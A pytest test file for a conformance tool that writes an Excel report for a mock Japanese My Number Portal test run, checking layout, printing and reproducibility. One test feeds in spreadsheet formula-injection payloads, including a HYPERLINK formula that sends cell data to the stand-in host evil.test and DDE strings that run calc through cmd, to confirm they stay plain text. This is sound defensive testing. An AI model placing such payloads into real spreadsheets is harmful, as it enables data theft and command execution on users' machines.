"""report.xlsx: the layout of a Japanese test report, and no partner's text that does harm in it."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from lxml import etree
from openpyxl.cell import Cell
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from conformance.report import RunView, read_journal, rebuild, write_sheets
from conformance.report.html.marks import SHAPES
from conformance.vocabulary import Verdict

from .journal_builder import JournalBuilder, both, case, requirement
from .sample_journal import build

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
LAYOUT = [
    "項番",
    "業務",
    "試験項目",
    "確認内容",
    "期待結果",
    "結果",
    "実施日時（JST）",
    "実施者",
    "証跡番号",
    "備考",
]


@pytest.fixture(scope="module")
def directory(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("sheets")
    build().write(place)
    rebuild(place)
    return place


@pytest.fixture(scope="module")
def workbook(directory: Path) -> Workbook:
    return openpyxl.load_workbook(directory / "report.xlsx")


def _sheet(workbook: Workbook, title: str) -> Worksheet:
    sheet = workbook[title]
    assert isinstance(sheet, Worksheet)
    return sheet


def _rows(sheet: Worksheet) -> Iterator[dict[str, Any]]:
    head, *rows = sheet.iter_rows()
    for row in rows:
        yield {str(title.value): cell for title, cell in zip(head, row, strict=True)}


def _one(directory: Path, **changes: Any) -> Workbook:
    """The workbook of a run in which a partner said `observed`, and so on."""
    write_sheets(_view(directory, **changes), directory)
    return openpyxl.load_workbook(directory / "report.xlsx")


def _view(
    directory: Path, *, observed: str = "x", reason: str | None = None, value: str = "x", name: str = "x", **run: Any
) -> RunView:
    target = {"name": name, "operator": name, "environment": "staging", "baseUrl": "http://x", "build": name}
    builder = JournalBuilder().start(target=target, **run)
    builder.catalogue([requirement("G-1")], [case("link/a", "G-1"), case("link/b", "G-1")]).select("link/a")
    builder.add("conditions", key="k", label=both("条件", "condition"), value=value)
    builder.add("case_started", case="link/a")
    builder.finding("link/a", "G-1", "fail", observed=both(observed, observed))
    builder.finish_case("link/a", "fail", reason)
    return read_journal(builder.end(1).write(directory))


def _cells(workbook: Workbook) -> Iterator[Cell]:
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if isinstance(cell, Cell) and cell.value is not None)


def test_deviations_stand_before_results(workbook: Workbook) -> None:
    assert workbook.sheetnames == ["表紙", "逸脱・未実施", "試験項目一覧・結果", "要件別"]


def test_a_row_for_each_case_in_the_usual_layout(workbook: Workbook, sample: RunView, directory: Path) -> None:
    rows = list(_rows(_sheet(workbook, "試験項目一覧・結果")))
    assert [title for title in rows[0] if title in LAYOUT] == LAYOUT
    assert len(rows) == len(sample.cases)
    by_case = {str(row["試験項目"].value).rpartition("\n")[2]: row for row in rows}
    for each in sample.cases:
        row = by_case[each.id]
        assert str(row["要件"].value).split() == list(each.spec.requirements)
        assert row["結果"].value == f"{SHAPES[each.verdict]} {each.verdict.label.ja}"
        assert row["期待結果"].value
        assert row["実施者"].value == ("試験実施者" if each.started_at else None)
        target = row["証跡番号"].hyperlink and row["証跡番号"].hyperlink.target
        if each.activity.exchanges:
            assert (directory / str(target)).is_file()
            assert Path(str(target)).name.startswith(f"{row['証跡番号'].value}-")
        else:
            assert target is None
    (failed,) = {str(row["備考"].value) for row in rows if row["結果"].value == "× 不合格"}
    assert failed == "同意していないのに、/menu に「試験 太郎」が表示された。"


def test_what_is_no_pass_the_worst_first(workbook: Workbook, sample: RunView) -> None:
    rows = list(_rows(_sheet(workbook, "逸脱・未実施")))
    labels = [str(row["判定"].value).partition(" ")[2] for row in rows]
    order = [verdict.label.ja for verdict in Verdict]
    assert [order.index(label) for label in labels] == sorted(order.index(label) for label in labels)
    assert "合格" not in labels
    named = {str(row["試験項目・要件"].value).rpartition("\n")[2] for row in rows if row["区分"].value == "ケース"}
    assert named == {each.id for each in sample.cases if each.verdict is not Verdict.PASS}


def test_requirements_with_level_and_origin(workbook: Workbook, sample: RunView) -> None:
    rows = list(_rows(_sheet(workbook, "要件別")))
    assert [row["要件"].value for row in rows] == [each.id for each in sample.requirements]
    assert [row["水準"].value for row in rows] == [each.level.label.ja for each in sample.requirements]
    assert [str(row["由来"].value)[:2] for row in rows] == [each.origin.label.ja for each in sample.requirements]


def test_cover_has_both_conclusions_and_conditions(workbook: Workbook, sample: RunView) -> None:
    texts = [str(cell.value) for row in _sheet(workbook, "表紙").iter_rows() for cell in row if cell.value]
    assert "模擬マイナポータルによる試験" in texts
    assert any(text.startswith("指針適合: ") for text in texts)
    assert any(text.startswith("追加確認: ") for text in texts)
    assert sample.journal_sha256 in texts


def test_printed_on_a4_with_its_header_on_each_page(workbook: Workbook) -> None:
    for sheet in workbook.worksheets:
        assert sheet.page_setup.paperSize == 9
        assert sheet.sheet_properties.pageSetUpPr is not None
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.oddHeader is not None
        assert sheet.oddHeader.center.text == "模擬マイナポータルによる試験"
        assert sheet.oddFooter is not None
        assert sheet.oddFooter.center.text == "&P / &N"
    for sheet in workbook.worksheets[1:]:
        assert sheet.page_setup.orientation == "landscape"
        assert (sheet.print_title_rows, sheet.freeze_panes) == ("$1:$1", "A2")
        assert sheet.auto_filter.ref == sheet.dimensions


def test_the_same_journal_gives_the_same_bytes(directory: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = (directory / "report.xlsx").read_bytes()
    # Neither the clock nor where it is read.
    monkeypatch.setenv("TZ", "America/New_York")
    rebuild(directory)
    assert (directory / "report.xlsx").read_bytes() == before
    with zipfile.ZipFile(io.BytesIO(before)) as archive:
        assert {member.date_time for member in archive.infolist()} == {(2026, 11, 23, 21, 5, 2)}
        assert b"2026-11-23T12:05:03Z" in archive.read("docProps/core.xml")


def test_a_tester_who_is_not_named_is_told_so(tmp_path: Path) -> None:
    workbook = _one(tmp_path)
    assert [row["実施者"].value for row in _rows(_sheet(workbook, "試験項目一覧・結果"))] == ["未記入", None]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.test/?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=",
        "#N/A",
        "http://evil.test/",
        "{=1+1}",
    ],
)
def test_no_text_of_a_partner_becomes_a_formula(tmp_path: Path, text: str) -> None:
    workbook = _one(tmp_path, observed=text, reason=text, value=text, name=text, tester=text)
    shown = text.replace("\r", "\n")
    found = [cell for cell in _cells(workbook) if cell.value == shown]
    # Seen on every sheet that shows it, and in every column.
    assert len({cell.parent.title for cell in found}) >= 3
    for cell in _cells(workbook):
        assert cell.data_type in {"s", "n"}
        assert cell.data_type == "s" or isinstance(cell.value, int)
        assert cell.hyperlink is None or cell.hyperlink.target == "report.html"
    if text[0] in "=+-@\t\r\n" and "=" in text:
        assert all(cell.quotePrefix for cell in found)
    with zipfile.ZipFile(tmp_path / "report.xlsx") as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name or "connections" in name]
        for name in archive.namelist():
            assert not list(etree.fromstring(archive.read(name)).iter(f"{MAIN}f", f"{MAIN}ddeLink"))


def test_no_name_becomes_a_code_of_a_page_header(tmp_path: Path) -> None:
    workbook = _one(tmp_path, name="A&B &G &Z\n" + "長" * 300)
    header = workbook.worksheets[0].oddHeader
    assert header is not None
    assert str(header.right.text).startswith("A&&B &&G &&Z")
    with zipfile.ZipFile(tmp_path / "report.xlsx") as archive:
        written = etree.fromstring(archive.read("xl/worksheets/sheet1.xml")).find(f".//{MAIN}oddHeader")
    assert written is not None
    # Excel refuses a header of more than 255 characters.
    assert len(str(written.text)) <= 255


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x00b\x0bc\x1bd", "a[U+0000]b\nc[U+001B]d"),
        ("lone \ud83d surrogate", "lone [U+D83D] surrogate"),
        ("\ufffe\uffff", "[U+FFFE][U+FFFF]"),
        ("a\u202eb", "a[U+202E]b"),
        ("one\r\ntwo\rthree", "one\ntwo\nthree"),
        ("</t></is></c>&amp;<![CDATA[", "</t></is></c>&amp;<![CDATA["),
        ("  blanks  ", "  blanks  "),
        ("𠮷野家", "𠮷野家"),
    ],
)
def test_no_character_breaks_it(tmp_path: Path, text: str, shown: str) -> None:
    workbook = _one(tmp_path, observed=text, value=text, name=text)
    assert [cell for cell in _cells(workbook) if cell.value == shown]


def test_what_looks_like_an_escape_stays_what_it_is(tmp_path: Path) -> None:
    """A reader takes `_x003D_` for an equals sign (ECMA-376); openpyxl shows what is written."""
    workbook = _one(tmp_path, observed="_x003D_1+1")
    assert [cell for cell in _cells(workbook) if cell.value == "_x005F_x003D_1+1"]


@pytest.mark.parametrize("length", [32_767, 32_768, 5_000_000])
def test_a_long_text_is_cut_and_says_so(tmp_path: Path, length: int) -> None:
    workbook = _one(tmp_path, observed="=" * length, value="長" * length)
    longest = [str(cell.value) for cell in _cells(workbook) if len(str(cell.value)) > 600]
    assert longest
    assert all(len(text) < 1_000 and "以下略" in text for text in longest)


def test_in_english_nothing_of_ours_is_japanese(tmp_path: Path) -> None:
    view = _view(tmp_path, name="Service", observed="x" * 1_000, guideline=both("x", "x"))
    write_sheets(view, tmp_path, "en")
    workbook = openpyxl.load_workbook(tmp_path / "report.xlsx")
    texts = [*workbook.sheetnames, *(str(cell.value) for cell in _cells(workbook))]
    assert [
        text for text in texts if any("\u3040" <= each <= "\u30ff" or "\u4e00" <= each <= "\u9fff" for each in text)
    ] == []


def test_a_run_that_was_killed_at_once_has_a_workbook(tmp_path: Path) -> None:
    view = read_journal(JournalBuilder().start().write(tmp_path))
    workbook = openpyxl.load_workbook(write_sheets(view, tmp_path))
    assert [sheet.max_row for sheet in workbook.worksheets[1:]] == [1, 1, 1]


def test_what_was_agreed_stands_beside_what_was_allowed(tmp_path: Path) -> None:
    builder = JournalBuilder().start().catalogue([requirement("G-1")], [case("link/a", "G-1")]).select("link/a")
    builder.waive(requirement="G-1").run("link/a", "fail", {"G-1": "fail"})
    workbook = openpyxl.load_workbook(write_sheets(read_journal(builder.end().write(tmp_path)), tmp_path))
    (row,) = _rows(_sheet(workbook, "試験項目一覧・結果"))
    assert row["結果"].value == "◇ 許容"
    deviation = next(_rows(_sheet(workbook, "逸脱・未実施")))
    for told in (row["備考"].value, deviation["観測結果・理由"].value):
        assert "成り立たなかった" in str(told)
        assert "許容の理由: " in str(told)
        assert "期限 " in str(told)
